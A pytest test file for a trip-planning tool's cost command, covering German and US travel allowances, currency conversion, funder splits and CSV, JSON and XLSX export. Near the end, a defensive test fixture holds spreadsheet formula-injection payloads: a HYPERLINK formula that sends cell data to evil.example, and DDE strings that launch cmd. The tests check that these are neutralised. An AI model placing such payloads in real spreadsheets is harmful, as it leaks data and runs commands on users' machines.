"""`tripplan costs`: allowances drawn from the itinerary, lines, conversion, funders' totals.

Foreign rates here are the BMF's for 2019 (letter of 28.11.2018, BStBl 2018 I S. 1354):
France (Paris) 58/39, Belgium 42/28, Australia (Sydney) 68/45, Austria 40/27.
"""

from __future__ import annotations

import copy
import csv
import io
import json
import os
import re
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from helpers import ROOT, run
from hypothesis import given
from hypothesis import strategies as st

from tripplan.loader import load_plan, validate
from tripplan.planning.build import build_itinerary
from tripplan.planning.costs import CENT, UNFUNDED, cost_report, split
from tripplan.planning.whereabouts import whereabouts_of

D = Decimal
BMF_2019 = "BMF 28.11.2018, IV C 5 - S 2353/08/10006 :009, BStBl 2018 I S. 1354"
GOLDEN = ROOT / "tests" / "golden" / "costs-bautzen.json"


def rate(country: str, full: str, partial: str, place: str = "") -> dict[str, Any]:
    return {
        "rules": "de-estg",
        "country": country,
        "place": place,
        "year": 2019,
        "currency": "EUR",
        "full": full,
        "partial": partial,
        "source": BMF_2019,
    }


PLAN: dict[str, Any] = {
    "version": 1,
    "programme": {"name": "Paris visit", "year": 2019, "organiser": "Town", "language": "en"},
    "communities": [
        {
            "id": "bautzen",
            "name": "Bautzen",
            "country": "DE",
            "timezone": "Europe/Berlin",
            "airports": ["DRS"],
        },
        {
            "id": "paris",
            "name": "Paris",
            "country": "FR",
            "timezone": "Europe/Paris",
            "airports": ["CDG"],
        },
        {
            "id": "brussels",
            "name": "Brüssel",
            "country": "BE",
            "timezone": "Europe/Brussels",
            "airports": ["BRU"],
        },
        {
            "id": "sydney",
            "name": "Sydney",
            "country": "AU",
            "timezone": "Australia/Sydney",
            "airports": ["SYD"],
        },
    ],
    "delegates": [{"id": "ann", "name": "Ann", "home": "bautzen"}],
    "delegations": [
        {
            "id": "bz",
            "name": "Bautzen",
            "home": "bautzen",
            "members": ["ann"],
            "allowances": {"rules": "de-estg", "funder": "town"},
        }
    ],
    "trips": [
        {
            "id": "visit",
            "title": "Paris",
            "kind": "study_tour",
            "delegations": ["bz"],
            "hosts": ["paris"],
            "first_day": "2019-05-06",
            "last_day": "2019-05-10",
            "stays": [{"community": "paris", "check_in": "2019-05-06", "check_out": "2019-05-09"}],
            "legs": [
                {
                    "id": "out",
                    "mode": "flight",
                    "from": "DRS",
                    "to": "CDG",
                    "departs": "2019-05-06T10:00",
                    "arrives": "2019-05-06T12:00",
                    "cost": {
                        "amount": "180.00",
                        "currency": "EUR",
                        "per": "person",
                        "shares": [
                            {"funder": "town", "percent": "50"},
                            {"funder": "fund", "percent": "50"},
                        ],
                    },
                },
                {
                    "id": "back",
                    "mode": "flight",
                    "from": "CDG",
                    "to": "DRS",
                    "departs": "2019-05-09T15:00",
                    "arrives": "2019-05-09T17:00",
                },
            ],
            "activities": [
                {
                    "id": "m1",
                    "title": "Meeting",
                    "community": "paris",
                    "start": "2019-05-07T10:00",
                    "end": "2019-05-07T12:00",
                },
                {
                    "id": "m2",
                    "title": "Meeting",
                    "community": "paris",
                    "start": "2019-05-08T10:00",
                    "end": "2019-05-08T12:00",
                },
            ],
        }
    ],
    "budget": {
        "currency": "EUR",
        "funders": [{"id": "town", "name": "Town"}, {"id": "fund", "name": "Fund"}],
        "allowance_rates": [
            rate("FR", "58", "39", "Paris"),
            rate("BE", "42", "28"),
            rate("AU", "68", "45", "Sydney"),
            rate("AT", "40", "27"),
        ],
    },
}


def allowances_of(data: dict[str, Any]) -> dict[date, Decimal | None]:
    plan = validate(data)
    report = cost_report(whereabouts_of(build_itinerary(plan)))
    return {d.day: (None if d.missing else d.result) for d in report.days}


def changed(before: dict[date, Any], after: dict[date, Any]) -> dict[date, tuple[Any, Any]]:
    return {
        day: (before.get(day), after.get(day))
        for day in sorted(set(before) | set(after))
        if before.get(day) != after.get(day)
    }


def test_the_days_of_a_trip_abroad_come_from_the_itinerary() -> None:
    """Departure: Paris reached before midnight (39); two full days (58); return day: the last
    place of work abroad, Paris (39)."""
    assert allowances_of(PLAN) == {
        date(2019, 5, 6): D("39"),
        date(2019, 5, 7): D("58"),
        date(2019, 5, 8): D("58"),
        date(2019, 5, 9): D("39"),
    }


def test_moving_the_return_flight_by_a_day_moves_exactly_the_last_days() -> None:
    later = copy.deepcopy(PLAN)
    back = later["trips"][0]["legs"][1]
    back["departs"], back["arrives"] = "2019-05-10T15:00", "2019-05-10T17:00"
    assert changed(allowances_of(PLAN), allowances_of(later)) == {
        date(2019, 5, 9): (D("39"), D("58")),
        date(2019, 5, 10): (None, D("39")),
    }


def test_a_dinner_the_hosts_provide_changes_exactly_that_day_by_40_percent() -> None:
    dinner = copy.deepcopy(PLAN)
    dinner["trips"][0]["activities"].append(
        {
            "id": "dinner",
            "title": "Dinner with the mayor",
            "kind": "meal",
            "community": "paris",
            "start": "2019-05-07T19:00",
            "end": "2019-05-07T21:00",
            "provides_meal": "dinner",
        }
    )
    assert changed(allowances_of(PLAN), allowances_of(dinner)) == {
        date(2019, 5, 7): (D("58"), D("34.80")),
    }


def test_breakfast_in_the_stay_reduces_each_morning_after_a_night_there() -> None:
    breakfast = copy.deepcopy(PLAN)
    breakfast["trips"][0]["stays"][0]["breakfast"] = True
    assert changed(allowances_of(PLAN), allowances_of(breakfast)) == {
        date(2019, 5, 7): (D("58"), D("46.40")),
        date(2019, 5, 8): (D("58"), D("46.40")),
        date(2019, 5, 9): (D("39"), D("27.40")),
    }


def _via_brussels(stay_there: bool) -> dict[str, Any]:
    data = copy.deepcopy(PLAN)
    legs = data["trips"][0]["legs"]
    legs[0:1] = [
        {
            "id": "out-1",
            "mode": "flight",
            "from": "DRS",
            "to": "BRU",
            "departs": "2019-05-06T20:00",
            "arrives": "2019-05-06T21:30",
        },
        {
            "id": "out-2",
            "mode": "flight",
            "from": "BRU",
            "to": "CDG",
            "departs": "2019-05-07T07:00",
            "arrives": "2019-05-07T08:00",
        },
    ]
    stays = data["trips"][0]["stays"]
    stays[0]["check_in"] = "2019-05-07"
    if stay_there:
        stays.insert(
            0, {"community": "brussels", "check_in": "2019-05-06", "check_out": "2019-05-07"}
        )
    return data


def test_a_stopover_without_a_night_is_not_reached_the_day_stays_at_home_12_00() -> None:
    assert allowances_of(_via_brussels(stay_there=False))[date(2019, 5, 6)] == D("12")


def test_a_stopover_with_a_night_there_is_reached_brussels_28_00() -> None:
    assert allowances_of(_via_brussels(stay_there=True))[date(2019, 5, 6)] == D("28")


def test_arrival_after_midnight_local_time_leaves_the_first_day_at_home_12_00() -> None:
    late = copy.deepcopy(PLAN)
    out = late["trips"][0]["legs"][0]
    out["departs"], out["arrives"] = "2019-05-06T22:45", "2019-05-07T00:30"
    days = allowances_of(late)
    assert days[date(2019, 5, 6)] == D("12")  # domestic partial: Paris reached after 24:00
    assert days[date(2019, 5, 7)] == D("58")


def test_a_flight_over_three_calendar_days_gives_the_day_between_austrias_40_00() -> None:
    far = copy.deepcopy(PLAN)
    visit = far["trips"][0]
    visit["hosts"] = ["sydney"]
    visit["stays"] = [{"community": "sydney", "check_in": "2019-05-08", "check_out": "2019-05-10"}]
    visit["activities"] = [
        {
            "id": "m",
            "title": "Meeting",
            "community": "sydney",
            "start": "2019-05-09T10:00",
            "end": "2019-05-09T12:00",
        }
    ]
    visit["legs"] = [
        {
            "id": "out",
            "mode": "flight",
            "from": "DRS",
            "to": "SYD",
            "departs": "2019-05-06T22:00",
            "arrives": "2019-05-08T06:00",
        },
        {
            "id": "back",
            "mode": "flight",
            "from": "SYD",
            "to": "DRS",
            "departs": "2019-05-10T08:00",
            "arrives": "2019-05-10T22:00",
        },
    ]
    days = allowances_of(far)
    assert days[date(2019, 5, 6)] == D("12")  # still in Germany at 24:00
    assert days[date(2019, 5, 7)] == D("40")  # in the air all day: Austria
    assert days[date(2019, 5, 8)] == D("68")  # Sydney
    assert days[date(2019, 5, 10)] == D("45")  # return: last place of work abroad


def test_lines_conversion_and_funders_of_a_small_plan() -> None:
    plan = validate(PLAN)
    report = cost_report(whereabouts_of(build_itinerary(plan)))
    (fare,) = [line for line in report.lines if line.kind == "leg"]
    assert (fare.delegate, fare.amount, fare.converted) == ("ann", D("180.00"), D("180.00"))
    assert dict(fare.funders) == {"town": D("90.00"), "fund": D("90.00")}
    assert report.total() == D("180.00") + D("194")
    assert report.by("funder") == {"town": D("284.00"), "fund": D("90.00")}


def test_a_cost_in_another_currency_is_converted_at_the_declared_rate_half_up() -> None:
    data = copy.deepcopy(PLAN)
    data["trips"][0]["legs"][0]["cost"] = {"amount": "550.00", "currency": "USD"}
    data["budget"]["exchange_rates"] = [
        {
            "from": "EUR",
            "to": "USD",
            "rate": "1.2309",
            "date": "2018-04-20",
            "source": "ECB euro reference rate of 20.04.2018",
        }
    ]
    plan = validate(data)
    (fare,) = [
        line
        for line in cost_report(whereabouts_of(build_itinerary(plan))).lines
        if line.kind == "leg"
    ]
    assert fare.converted == D("446.83")  # 550 / 1.2309 = 446.827…
    assert fare.funders == ((UNFUNDED, D("446.83")),)


def test_a_currency_without_a_rate_is_left_out_of_the_totals_and_named() -> None:
    data = copy.deepcopy(PLAN)
    data["trips"][0]["legs"][0]["cost"] = {"amount": "550.00", "currency": "USD"}
    plan = validate(data)
    report = cost_report(whereabouts_of(build_itinerary(plan)))
    assert report.missing_rates == (("USD", "EUR"),)
    assert report.total() == D("194")


def test_split_gives_the_spare_cent_to_the_largest_remainder() -> None:
    thirds = [("a", D(1) / 3), ("b", D(1) / 3), ("c", D(1) / 3)]
    assert split(D("100.00"), thirds) == (("a", D("33.34")), ("b", D("33.33")), ("c", D("33.33")))
    assert split(D("0.05"), [("a", D("0.7")), ("b", D("0.3"))]) == (
        ("a", D("0.04")),
        ("b", D("0.01")),
    )


@given(
    cents=st.integers(min_value=0, max_value=10**9),
    weights=st.lists(
        st.decimals(min_value=D("0.0001"), max_value=100, places=4), min_size=1, max_size=8
    ),
)
def test_split_always_adds_up_to_the_total_each_part_within_a_cent(
    cents: int, weights: list[Decimal]
) -> None:
    total = D(cents) * CENT
    named = [(f"f{i}", w) for i, w in enumerate(weights)]
    parts = split(total, named)
    assert sum(p for _, p in parts) == total
    whole = sum(weights)
    for (_, part), weight in zip(parts, weights, strict=True):
        assert abs(part - total * weight / whole) < CENT
        assert part == part.quantize(CENT)


@given(
    amounts=st.lists(
        st.tuples(
            st.integers(min_value=0, max_value=10**7),
            st.integers(min_value=0, max_value=100),
        ),
        min_size=1,
        max_size=20,
    )
)
def test_funders_totals_reconcile_with_the_grand_total_to_the_cent(
    amounts: list[tuple[int, int]],
) -> None:
    """Every line split by percent shares (the rest unfunded): the per-funder totals add up
    to the grand total exactly."""
    from tripplan.planning.costs import CostLine, CostReport

    lines = []
    for n, (cents, percent) in enumerate(amounts):
        total = D(cents) * CENT
        weights = [("a", D(percent) / 100), ("b", D(100 - percent) / 300)]
        weights.append((UNFUNDED, 1 - weights[0][1] - weights[1][1]))
        lines.append(
            CostLine(
                uid=f"x/{n}", trip=None, kind="item", title="x", delegate=None, count=1,
                unit=total, amount=total, currency="EUR", status="planned", invented=False,
                day=None, converted=total, funders=split(total, weights),
            )
        )  # fmt: skip
    report = CostReport(validate(PLAN), "EUR", tuple(lines), ())
    assert sum(report.by("funder").values()) == report.total()


# -- the command ---------------------------------------------------------------------


def test_costs_json_of_the_bundled_plan_matches_its_golden_file() -> None:
    result = run("costs", "--format", "json", "--lang", "en")
    assert result.exit_code == 0, result.output
    if os.environ.get("UPDATE_SNAPSHOTS"):
        GOLDEN.write_text(result.stdout, encoding="utf-8")
    assert result.stdout == GOLDEN.read_text(encoding="utf-8")
    document = json.loads(result.stdout)
    assert document["version"] == 1
    totals = document["totals"]
    assert sum(D(v) for v in totals["by_funder"].values()) == D(totals["total"])
    day = next(d for d in document["allowances"] if d["date"] == "2018-11-08")
    assert day["rules"] == "de-estg" and day["share"] == "partial"
    assert day["deductions"] == [
        {"meal": "dinner", "amount": "9.60", "rule": day["deductions"][0]["rule"]}
    ]


def test_the_bundled_plan_names_its_missing_rates_and_never_invents_one() -> None:
    plan = load_plan(None)
    report = cost_report(whereabouts_of(build_itinerary(plan)))
    missing = {(d.missing.rules, d.missing.country) for d in report.days if d.missing}
    assert missing == {("de-estg", "US"), ("us-federal", "DE")}
    result = run("check", "--lang", "en")
    assert "no de-estg rate for US host community 1 (US) in 2018" in result.output
    german = run("check")  # the placeholder's name in the plan's language
    assert "kein de-estg-Satz für US-Gastkommune 1 (US) 2018" in german.output
    assert "no us-federal rate for Bautzen (DE) in 2018" in result.output


def test_costs_csv_in_german_is_excel_dialect_semicolon_decimal_comma_bom() -> None:
    result = run("costs", "--format", "csv", "--lang", "de", "--delegate", "bz-stadt")
    assert result.exit_code == 0, result.output
    data = result.stdout_bytes
    assert data.startswith("\ufeff".encode())
    assert b"\r\n" in data
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][:3] == ["Art", "Posten", "Reise"]
    fare = next(r for r in rows if r[1] == "study-tour/out-longhaul")
    assert fare[13] == "950,00"


def test_the_rules_of_allowance_days_are_in_the_language_of_the_report() -> None:
    """The CSV's note and the JSON's rules say why in the reader's language (they were
    English in a German report); the paragraphs are cited as published."""
    result = run("costs", "--format", "csv", "--lang", "de", "--delegate", "bz-stadt")
    rows = list(csv.reader(io.StringIO(result.stdout_bytes.decode("utf-8-sig")), delimiter=";"))
    note = rows[0].index("Hinweis")
    day = next(r for r in rows if r[1] == "allowance/bz-stadt/2018-11-08")
    assert day[note] == (
        "EStG § 9 Abs. 4a Satz 3 Nr. 2: An- oder Abreisetag einer Reise mit Übernachtung"
    )
    document = json.loads(run("costs", "--format", "json", "--lang", "de").stdout)
    (german,) = (d for d in document["allowances"] if d["date"] == "2018-11-08"
                 and d["delegate"] == "bz-stadt")  # fmt: skip
    assert german["rule"] == day[note]
    assert german["deductions"][0]["rule"] == (
        "EStG § 9 Abs. 4a Satz 8: 40 % des vollen Betrags des Ortes"
    )


def test_costs_csv_in_english_uses_commas_and_decimal_points() -> None:
    result = run("costs", "--format", "csv", "--lang", "en", "--funder", "stadt")
    rows = list(csv.reader(io.StringIO(result.stdout_bytes.decode("utf-8-sig"))))
    assert rows[0][0] == "Kind"
    assert all(r[1] != "return-visit/us1-longhaul" for r in rows)  # paid by Cultural Vistas
    assert any(r[13] == "45.00" for r in rows)


def test_costs_xlsx_opens_with_amounts_as_numbers(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    target = tmp_path / "costs.xlsx"
    result = run("costs", "--format", "xlsx", "--out", str(target), "--lang", "en")
    assert result.exit_code == 0, result.output
    book = load_workbook(target)
    sheet = book["Costs"]
    header = [c.value for c in sheet[1]]
    assert header[:2] == ["Kind", "Item"]
    amounts = [row[13] for row in sheet.iter_rows(min_row=2, values_only=True) if row[13]]
    assert amounts and all(isinstance(a, int | float) for a in amounts)
    assert book["Totals"].max_row > 3


def test_the_table_sums_each_delegates_allowance_and_shows_days_on_request() -> None:
    """By default a row per delegate (a plan of 1,600 delegates has 30,000 allowance days);
    ``--days`` or ``--delegate`` shows them day by day."""
    summary = run("costs", "--trip", "colloquium", "--lang", "en")
    assert summary.exit_code == 0, summary.output
    lines = summary.stdout.splitlines()
    at = lines.index("Daily allowances")
    assert lines[at + 1 : at + 6] == [
        "Delegate        Rule set     Days          Deductions     Amount   No rate",
        "─" * 74,
        "bz-buendnis     de-estg      2 × partial   −14.40 EUR   9.60 EUR",
        "bz-stadt        de-estg      2 × partial   −14.40 EUR   9.60 EUR",
        "bz-steinhaus    de-estg      2 × partial   −14.40 EUR   9.60 EUR",
    ]
    assert lines[at + 8 : at + 10] == [
        "us1-a           us-federal   1 × full                                    2",
        "                             1 × 75 %",
    ]
    assert "Each day with its place, share and deductions: --days or --delegate." in lines
    assert "Thu, Nov 8, 2018" not in summary.stdout

    days = run("costs", "--trip", "colloquium", "--lang", "en", "--days")
    assert days.exit_code == 0, days.output
    assert "Thu, Nov 8, 2018   Berlin (DE)      partial (12.00)   dinner −9.60      2.40 EUR" in (
        days.stdout.splitlines()
    )
    assert days.stdout.count("Thu, Nov 8, 2018") == 5  # each Bautzen delegate's, in their table
    assert "--days or --delegate" not in days.stdout

    one = run("costs", "--trip", "colloquium", "--lang", "en", "--delegate", "bz-stadt")
    assert one.stdout.count("Thu, Nov 8, 2018") == 1
    assert "bz-stadt · de-estg" in one.stdout.splitlines()


def test_the_table_shows_each_item_once_with_what_all_its_travellers_cost() -> None:
    """Five seats on one flight are one row (count, amount and conversion summed); each
    delegate's own line is in ``--delegate``, JSON, CSV and XLSX."""
    result = run("costs", "--trip", "study-tour", "--lang", "en")
    lines = result.stdout.splitlines()
    assert "Frankfurt am Main FRA → US   5 delegates       5   4750.00 EUR *         4750.00" in (
        lines
    )
    # 5 × 5 nights at 110.00 USD, each delegate's 550.00 USD converted (446.83 EUR) and summed
    assert "Hotel (to be confirmed)      5 delegates      25   2750.00 USD *         2234.15" in (
        lines
    )
    assert "Bautzen → Dresden DRS                          1     45.00 EUR *           45.00" in (
        lines
    )  # a shared car: no delegate
    one = run("costs", "--trip", "study-tour", "--lang", "en", "--delegate", "bz-stadt")
    assert "Hotel (to be confirmed)          bz-stadt       5   550.00 USD *          446.83" in (
        one.stdout.splitlines()
    )


def test_costs_refuses_an_unknown_funder_with_exit_2() -> None:
    result = run("costs", "--funder", "hsb", "--lang", "en")
    assert result.exit_code == 2
    assert "no funder has the id 'hsb'" in result.output


@pytest.mark.parametrize(
    "args",
    [
        ("itinerary", "--format", "json", "--audience", "delegates"),
        ("itinerary", "--format", "json", "--audience", "hosts"),
        ("hosts", "brief", "us-host-1", "--format", "json"),
        ("hosts", "brief", "bautzen", "--format", "markdown"),
        ("export-ics", "--out", "-", "--split", "none"),
    ],
)
def test_costs_never_reach_hosts_delegates_or_calendars(args: tuple[str, ...]) -> None:
    result = run(*args)
    assert result.exit_code in (0, 1), result.output
    for figure in ("950.00", "950,00", "1150", "1240", "1650", "446.83", "allowance", "Tagegeld"):
        assert figure not in result.stdout, (args, figure)


def test_costs_never_reach_a_booklet(tmp_path: Path) -> None:
    target = tmp_path / "b.html"
    result = run("booklet", "--delegate", "bz-stadt", "--format", "html", "--out", str(target))
    assert result.exit_code == 0, result.output
    text = target.read_text(encoding="utf-8")
    for figure in ("950.00", "950,00", "110.00", "1650", "Tagegeld", "allowance"):
        assert figure not in text


# -- check ---------------------------------------------------------------------------


def findings_of(data: dict[str, Any]) -> dict[str, list[str]]:
    from tripplan.render.i18n import translate
    from tripplan.vocabulary import Lang

    found: dict[str, list[str]] = {}
    for finding in build_itinerary(validate(data)).findings:
        found.setdefault(finding.code, []).append(translate(finding.message, Lang.en))
    return found


def test_check_is_silent_about_costs_when_all_is_in_order() -> None:
    codes = set(findings_of(PLAN))
    assert not codes & {
        "allowance-rule-set-missing",
        "allowance-rate-missing",
        "shares-not-100",
        "allowance-rate-year",
        "exchange-rate-missing",
    }


def test_check_warns_about_travellers_without_a_rule_set() -> None:
    data = copy.deepcopy(PLAN)
    del data["delegations"][0]["allowances"]
    (text,) = findings_of(data)["allowance-rule-set-missing"]
    assert text.startswith("trip visit: ann travel without a rule set for daily allowances")


def test_check_names_a_missing_rate_with_its_days() -> None:
    data = copy.deepcopy(PLAN)
    data["budget"]["allowance_rates"] = [rate("BE", "42", "28")]
    (text,) = findings_of(data)["allowance-rate-missing"]
    assert text.startswith("no de-estg rate for Paris (FR) in 2019: 4 allowance days")


def test_check_warns_when_shares_do_not_add_up_to_100_percent() -> None:
    data = copy.deepcopy(PLAN)
    data["trips"][0]["legs"][0]["cost"]["shares"][1]["percent"] = "40"
    (text,) = findings_of(data)["shares-not-100"]
    assert "visit/out add up to 90 %, not 100 %" in text
    plan = validate(data)
    (fare,) = [
        line
        for line in cost_report(whereabouts_of(build_itinerary(plan))).lines
        if line.kind == "leg"
    ]
    assert dict(fare.funders) == {"town": D("90.00"), "fund": D("72.00"), UNFUNDED: D("18.00")}


def test_check_warns_about_a_rate_of_another_year() -> None:
    data = copy.deepcopy(PLAN)
    data["budget"]["allowance_rates"].append({**rate("BE", "42", "28"), "year": 2018})
    (text,) = findings_of(data)["allowance-rate-year"]
    assert "is for 2018, but no trip is in 2018" in text


def test_check_warns_about_a_currency_without_an_exchange_rate() -> None:
    data = copy.deepcopy(PLAN)
    data["trips"][0]["legs"][0]["cost"]["currency"] = "USD"
    (text,) = findings_of(data)["exchange-rate-missing"]
    assert text.startswith("costs in USD but no exchange rate to EUR")


def test_a_delegates_own_rule_set_overrides_the_delegations() -> None:
    data = copy.deepcopy(PLAN)
    data["delegates"][0]["allowances"] = {"rules": "flat", "amount": "20", "currency": "EUR"}
    assert set(allowances_of(data).values()) == {D("20")}


def test_a_cost_table_in_a_file_is_the_table_on_standard_output(tmp_path: Path) -> None:
    target = tmp_path / "costs.txt"
    written = run("costs", "--lang", "en", "--days", "--out", target)
    assert written.exit_code == 0, written.output
    shown = run("costs", "--lang", "en", "--days")
    assert target.read_text(encoding="utf-8") == shown.stdout
    assert shown.stdout.startswith("Costs: Transatlantic Exchange 2018 – Bautzen")


@pytest.mark.parametrize("fmt", ["csv", "json", "xlsx", "table"])
def test_costs_out_replaces_its_own_file_but_never_someone_elses(tmp_path: Path, fmt: str) -> None:
    target = tmp_path / f"costs.{fmt}"
    first = run("costs", "--format", fmt, "--out", str(target), "--lang", "de")
    assert first.exit_code == 0, first.output
    again = run("costs", "--format", fmt, "--out", str(target), "--lang", "de")
    assert again.exit_code == 0, again.output
    foreign = tmp_path / f"mine.{fmt}"
    foreign.write_bytes(b"Budget 2018, by hand\n")
    refused = run("costs", "--format", fmt, "--out", str(foreign))
    assert refused.exit_code == 2
    assert foreign.read_bytes() == b"Budget 2018, by hand\n"


US_PLAN: dict[str, Any] = {
    "version": 1,
    "programme": {"name": "Visit", "year": 2018, "organiser": "Town", "language": "en"},
    "communities": [
        {"id": "home", "name": "Home", "country": "US", "timezone": "America/Denver"},
        {"id": "testville", "name": "Testville", "country": "US", "timezone": "America/Chicago"},
    ],
    "delegates": [{"id": "sam", "name": "Sam", "home": "home"}],
    "delegations": [
        {
            "id": "us",
            "name": "US",
            "home": "home",
            "members": ["sam"],
            "allowances": {"rules": "us-federal"},
        }
    ],
    "trips": [
        {
            "id": "visit",
            "title": "Visit",
            "kind": "study_tour",
            "delegations": ["us"],
            "hosts": ["testville"],
            "first_day": "2018-05-07",
            "last_day": "2018-05-09",
            "stays": [
                {
                    "community": "testville",
                    "check_in": "2018-05-07",
                    "check_out": "2018-05-09",
                    "breakfast": True,
                }
            ],
            "legs": [
                {
                    "id": "out",
                    "mode": "car",
                    "from": "home",
                    "to": "testville",
                    "departs": "2018-05-07T08:00",
                    "arrives": "2018-05-07T12:00",
                },
                {
                    "id": "back",
                    "mode": "car",
                    "from": "testville",
                    "to": "home",
                    "departs": "2018-05-09T14:00",
                    "arrives": "2018-05-09T17:00",
                },
            ],
            "activities": [
                {
                    "id": "dinner",
                    "title": "Dinner with the hosts",
                    "kind": "meal",
                    "community": "testville",
                    "start": "2018-05-08T18:00",
                    "end": "2018-05-08T20:00",
                    "provides_meal": "dinner",
                }
            ],
        }
    ],
    "budget": {
        "allowance_rates": [
            {
                "rules": "us-federal",
                "country": "US",
                "place": "testville",
                "year": 2018,
                "currency": "USD",
                "full": "74",
                "breakfast": "18",
                "lunch": "20",
                "dinner": "31",
                "incidentals": "5",
                "source": "GSA M&IE breakdown, CONUS tier $74 (gsa.gov/mie); a fictitious place",
            }
        ]
    },
}


def test_us_federal_from_the_itinerary_75_percent_ends_dinner_deducted_hotel_breakfast_not() -> (
    None
):
    """41 CFR 301-11.101 (75 % first and last day), 301-11.18 (the dinner's $31), 301-11.17
    (the hotel's breakfast deducts nothing)."""
    assert allowances_of(US_PLAN) == {
        date(2018, 5, 7): D("55.50"),
        date(2018, 5, 8): D("43"),
        date(2018, 5, 9): D("55.50"),
    }


def test_a_plan_without_costs_says_how_to_add_them(tmp_path: Path) -> None:
    data = copy.deepcopy(PLAN)
    del data["budget"]
    del data["delegations"][0]["allowances"]
    del data["trips"][0]["legs"][0]["cost"]
    path = tmp_path / "plan.json"
    path.write_text(json.dumps(data), encoding="utf-8")
    result = run("costs", str(path))
    assert result.exit_code == 0, result.output
    assert "No costs and no daily allowances in this selection" in result.stdout


# -- spreadsheets: plan text never becomes a formula ------------------------------------------

FORMULAS = {
    "title": '=HYPERLINK("https://evil.example/?d="&A1,"click")',
    "funder": "@SUM(1+1)*cmd|' /C calc'!A0",
    "place": "-2+3+cmd|' /C calc'!A0",
    "trip": "+Paris",
    "spaced": "  =1+1",
    "tab": "\t=1+1",
    "wide": "\uff1d1+1",
}


def _formula_plan() -> dict[str, Any]:
    data = copy.deepcopy(PLAN)
    trip = data["trips"][0]
    trip["title"] = FORMULAS["trip"]
    meeting, other = trip["activities"]
    meeting["title"] = FORMULAS["title"]
    meeting["cost"] = {"amount": "10", "currency": "EUR", "per": "person"}
    other["title"] = FORMULAS["spaced"]
    other["cost"] = {"amount": "5", "currency": "EUR", "per": "item"}
    trip["legs"][1]["cost"] = {"amount": "7", "currency": "EUR", "per": "item"}
    trip["legs"][1]["carrier"] = FORMULAS["tab"]
    data["budget"]["funders"][0]["name"] = FORMULAS["funder"]
    data["communities"][1]["name"] = FORMULAS["place"]
    data["budget"]["allowance_rates"][0]["place"] = FORMULAS["place"]
    data["delegates"][0]["name"] = FORMULAS["wide"]
    return data


@pytest.mark.parametrize("lang", ["en", "de"])
def test_costs_csv_cells_never_start_a_formula(write_plan: Any, lang: str) -> None:
    path = write_plan(_formula_plan())
    result = run("costs", path, "--format", "csv", "--lang", lang)
    assert result.exit_code == 0, result.output
    rows = list(
        csv.reader(
            io.StringIO(result.stdout_bytes.decode("utf-8-sig")),
            delimiter=";" if lang == "de" else ",",
        )
    )
    cells = [cell for row in rows for cell in row]
    assert "'" + FORMULAS["title"] in cells
    assert "'" + FORMULAS["funder"] in cells
    assert "'" + FORMULAS["place"] in cells
    for cell in cells:
        assert not cell.lstrip(" \ufffd").startswith(("=", "+", "@", "\uff1d", "\t")), cell
        if cell.startswith("-"):
            assert re.fullmatch(r"-\d+[.,]\d\d", cell), cell  # only our own negative amounts


def test_costs_xlsx_text_is_never_a_formula(write_plan: Any, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    path = write_plan(_formula_plan())
    target = tmp_path / "costs.xlsx"
    result = run("costs", path, "--format", "xlsx", "--out", str(target), "--lang", "en")
    assert result.exit_code == 0, result.output
    book = load_workbook(target)
    texts = []
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    if cell.value.lstrip(" \ufffd").startswith(("=", "+", "-", "@", "\uff1d")):
                        assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
    assert FORMULAS["title"] in texts and FORMULAS["funder"] in texts


def test_costs_xlsx_with_noncharacters_in_plan_text_is_written(
    write_plan: Any, tmp_path: Path
) -> None:
    """XML cannot carry U+FFFE or U+FFFF: they become U+FFFD, as every control does (the
    workbook crashed with exit 3)."""
    from openpyxl import load_workbook

    data = _formula_plan()
    data["trips"][0]["activities"][0]["title"] = "Meeting \uffff \ufffe \ufdd0 \U0010ffff end"
    data["budget"]["funders"][0]["name"] = "Town \uffff"
    target = tmp_path / "costs.xlsx"
    result = run("costs", write_plan(data), "-f", "xlsx", "--out", str(target), "--lang", "en")
    assert result.exit_code == 0, result.output
    texts = [c for row in load_workbook(target).active.iter_rows(values_only=True) for c in row]
    assert "Meeting \ufffd \ufffd \ufffd \ufffd end" in texts
    assert "Town \ufffd" in texts


def test_the_same_plan_gives_the_same_workbook_byte_for_byte(monkeypatch: Any) -> None:
    """openpyxl dates each zip member now: the workbook changed every second, so --out
    rewrote an unchanged file and a test comparing bytes failed at a second's turn."""
    import time as clock

    from tripplan.render.costs import render_costs_xlsx
    from tripplan.vocabulary import Lang

    plan = validate(PLAN)
    report = cost_report(whereabouts_of(build_itinerary(plan)))
    first = render_costs_xlsx(report, plan, Lang.en)
    later = clock.localtime(clock.time() + 86_400 * 400)
    monkeypatch.setattr(clock, "localtime", lambda *_: later)
    assert render_costs_xlsx(report, plan, Lang.en) == first
    # openpyxl's save() also dated the workbook "modified" now, to the second
    import io
    import zipfile

    core = zipfile.ZipFile(io.BytesIO(first)).read("docProps/core.xml").decode("utf-8")
    assert ">2000-01-01T00:00:00Z</dcterms:modified>" in core
    assert ">2000-01-01T00:00:00Z</dcterms:created>" in core


def test_a_journey_through_two_trips_gives_each_day_to_the_trip_that_holds_it() -> None:
    """us1-a flies out for the return visit (4–8 Nov) and home after the colloquium (8–10
    Nov) in one journey: --trip colloquium shows the colloquium's own days."""
    plan = load_plan(None)
    report = cost_report(whereabouts_of(build_itinerary(plan)), delegate="us1-a", trip="colloquium")
    assert [d.day for d in report.days] == [date(2018, 11, 9), date(2018, 11, 10)]


def test_the_costs_table_prints_rich_markup_in_plan_text_as_written(write_plan: Any) -> None:
    """Table cells were plain strings, which rich reads as markup: a title '[/]' ended in
    exit 3 (MarkupError), and '[link=…]' would have made a link."""
    data = copy.deepcopy(PLAN)
    meeting = data["trips"][0]["activities"][0]
    meeting["title"] = "[/][link=x]c"
    meeting["cost"] = {"amount": "10", "currency": "EUR", "per": "person"}
    data["budget"]["funders"][0]["name"] = "[/town]"
    data["communities"][1]["name"] = "[bold]Paris"
    result = run("costs", write_plan(data), "--lang", "en", "--days")
    assert result.exit_code == 0, result.output
    assert "[/][link=x]c (visit/m1)" in result.stdout
    assert "[/town]" in result.stdout
    assert "[bold]Paris (FR)" in result.stdout


